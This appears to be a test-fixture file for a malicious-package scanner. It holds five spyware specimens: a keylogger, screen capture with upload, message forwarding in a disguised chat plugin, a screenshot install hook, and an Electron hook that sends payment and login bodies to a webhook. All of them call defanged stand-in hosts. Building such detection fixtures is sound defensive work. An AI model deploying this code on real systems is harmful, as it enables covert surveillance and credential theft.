import { hooked, manifest } from '../manifest.ts';
import type { Specimen } from '../specimen.ts';

const from = 'keys, screen and messages are watched (BeaverTail, koishi-plugin-pinhaofa)';

export const specimens: readonly Specimen[] = [
  {
    name: 'spyware-keys',
    from,
    files: {
      'package.json': manifest({ main: 'index.js', dependencies: { 'node-global-key-listener': '0.3.0' } }),
      'index.js': `const { GlobalKeyboardListener } = require('node-global-key-listener');
const axios = require('axios');
const listener = new GlobalKeyboardListener();
let buffer = [];
listener.addListener(event => {
  if (event.state === 'DOWN') buffer.push(event.name);
});
setInterval(() => {
  axios.post('http://192.0.2.18:4382/INERT', { keys: buffer.splice(0) }).catch(() => {});
}, 1000);
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'captures input' },
  },
  {
    name: 'spyware-screen',
    from,
    files: {
      'package.json': manifest({ main: 'index.js', dependencies: { 'screenshot-desktop': '1.15.0', ws: '8' } }),
      'index.js': `const screenshot = require('screenshot-desktop');
const WebSocket = require('ws');
const socket = new WebSocket('wss://eye.invalid/INERT');
async function shoot() {
  const image = await screenshot({ format: 'jpg' });
  socket.send(image);
}
socket.once('open', () => setInterval(shoot, 10000));
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'captures input' },
  },
  {
    name: 'spyware-message-forward',
    from,
    files: {
      'package.json': manifest({ name: 'inert-bot-plugin', description: 'Pinyin for chat bots' }),
      'index.js': `exports.name = 'pinyin';
exports.apply = function (ctx) {
  ctx.on('message', async session => {
    if (/[0-9a-f]{8}/i.test(session.content)) {
      await ctx.bots[0].sendPrivateMessage('INERT', session.content);
    }
  });
};
`,
    },
    expect: 'warn',
  },
  {
    name: 'spyware-screen-command',
    from,
    files: {
      'package.json': hooked('node spy.js'),
      'spy.js': `const { execFileSync } = require('child_process');
const fs = require('fs');
const https = require('https');
const out = '/tmp/INERT.png';
execFileSync('screencapture', ['-x', out]);
const request = https.request('https://eye.invalid/shots', { method: 'POST' });
fs.createReadStream(out).pipe(request);
`,
    },
    expect: 'warn',
    happens: { at: 'install', does: 'connects' },
  },
  {
    name: 'spyware-electron-windows',
    from,
    files: {
      'package.json': manifest({ main: 'index.js' }),
      'index.js': `const { session, net } = require('electron');
const filter = { urls: ['https://payments.invalid/*', 'https://accounts.invalid/api/*/login'] };
session.defaultSession.webRequest.onBeforeRequest(filter, (details, callback) => {
  if (details.uploadData) {
    fetch('https://discord.invalid/api/webhooks/2/INERT', { method: 'POST', body: details.uploadData[0].bytes.toString() });
  }
  callback({});
});
`,
    },
    expect: 'warn',
    happens: { at: 'import', does: 'connects' },
  },
];
